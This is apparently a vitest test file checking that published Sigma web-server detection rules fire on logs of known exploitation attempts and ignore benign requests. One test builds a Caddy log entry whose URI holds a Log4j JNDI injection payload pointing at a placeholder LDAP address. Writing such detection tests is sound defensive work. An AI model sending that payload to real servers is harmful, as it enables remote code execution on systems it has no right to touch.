import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { load } from 'js-yaml';
import { beforeAll, describe, expect, it } from 'vitest';
import type { EventView } from '#base/event.ts';
import { readLogSources } from '#catalog/log-sources.ts';
import { headBytes, headOf } from '#evidence/intake/head-of.ts';
import { openSource } from '#evidence/intake/open-source.ts';
import { recognise } from '#evidence/intake/recognise.ts';
import { readers } from '#evidence/readers/index.ts';
import { FieldRecord } from '#evidence/record/field-record.ts';
import { utc } from '#evidence/time/zone.ts';
import type { Matcher } from '#questions/sigma/matcher.ts';
import { buildRuleSet, type RuleSet } from '#questions/sigma/rule-set.ts';
import { corpus, matcherOf, publishedRules } from './sigma-corpus.ts';

const products = ['apache', 'nginx', 'web'];

/** The public Sigma rules for web servers, over access and error logs of known attacks. */
describe.skipIf(!existsSync(corpus))(
  'the published Sigma rules for web servers (skipped where ../shared/data is absent)',
  () => {
    let set: RuleSet;
    let matcher: Matcher;
    beforeAll(() => {
      const files = products.map((product) => new URL(`../../catalog/fields/${product}.yaml`, import.meta.url));
      const logSources = files.map((file) => readLogSources(load(readFileSync(file, 'utf8'))));
      set = buildRuleSet(publishedRules(), logSources, false);
      matcher = matcherOf(set, false);
    });

    it.each([
      ['f5-big-ip-cve-2020-5902', 'CVE-2020-5902 F5 BIG-IP Exploitation Attempt'],
      ['fortinet-cve-2018-13379', 'Fortinet CVE-2018-13379 Exploitation'],
      ['apache_log4j2_cve-2021-44228', 'Log4j RCE CVE-2021-44228 Generic'],
    ])('fire on %s', async (name, title) => {
      expect(await titlesOn(readFileSync(join(corpus, `linux/crowdsec-hub/${name}/${name}.log`)))).toContain(title);
    });

    it('fire on JSON of Caddy, on an error log of Apache and on one of nginx', async () => {
      const caddy = { level: 'info', ts: 1693840791, logger: 'http.log.access', msg: 'x', status: 200 };
      const request = { method: 'GET', uri: '/?a=${jndi:ldap://192.0.2.7/a}', headers: {} };
      expect(await titlesOn(Buffer.from(`${JSON.stringify({ ...caddy, request })}\n`))).toContain(
        'Log4j RCE CVE-2021-44228 Generic',
      );
      const apache =
        '[Sat Mar 09 10:20:30 2024] [core:notice] [pid 7] AH00051: child pid 9 exit signal Segmentation Fault (11)\n';
      expect(await titlesOn(Buffer.from(apache))).toEqual(['Apache Segmentation Fault']);
      const nginx = '2024/03/09 10:20:30 [alert] 7#7: worker process 9 exited on signal 6 (core dumped)\n';
      expect(await titlesOn(Buffer.from(nginx))).toEqual(['Nginx Core Dump']);
    });

    it('stay silent on everyday requests, and the rule for what came of one where that was refused', async () => {
      const refused = readFileSync(
        join(corpus, 'linux/crowdsec-hub/grafana_cve-2021-43798/grafana_cve-2021-43798.log'),
      );
      expect(await titlesOn(refused)).not.toContain('Grafana Path Traversal Exploitation CVE-2021-43798');
      const name = 'linux/crowdsec-hub/actual-budget-whitelist/actual-budget-logs.log';
      expect(await titlesOn(readFileSync(join(corpus, name)))).toEqual([]);
    });

    async function titlesOn(bytes: Buffer): Promise<string[]> {
      const titles = new Set<string>();
      const head = headOf('access.log', bytes.subarray(0, headBytes), bytes.length <= headBytes);
      const reader = recognise(head, readers);
      if (reader === null) return [];
      const time = { zone: utc, zoneIsSet: true, latestUs: Date.UTC(2026, 10, 25) * 1000 };
      const source = { name: 'access.log', head, time, record: new FieldRecord() };
      const stream = openSource({ reader, readers, head, source, options: { carve: false } });
      const sink = {
        record: (event: EventView) => {
          for (const rule of matcher.match(event)) titles.add(set.rules[rule]?.meta.title ?? '');
        },
        reject: () => undefined,
      };
      stream.push(bytes, sink);
      await stream.end(sink);
      return [...titles].sort();
    }
  },
);
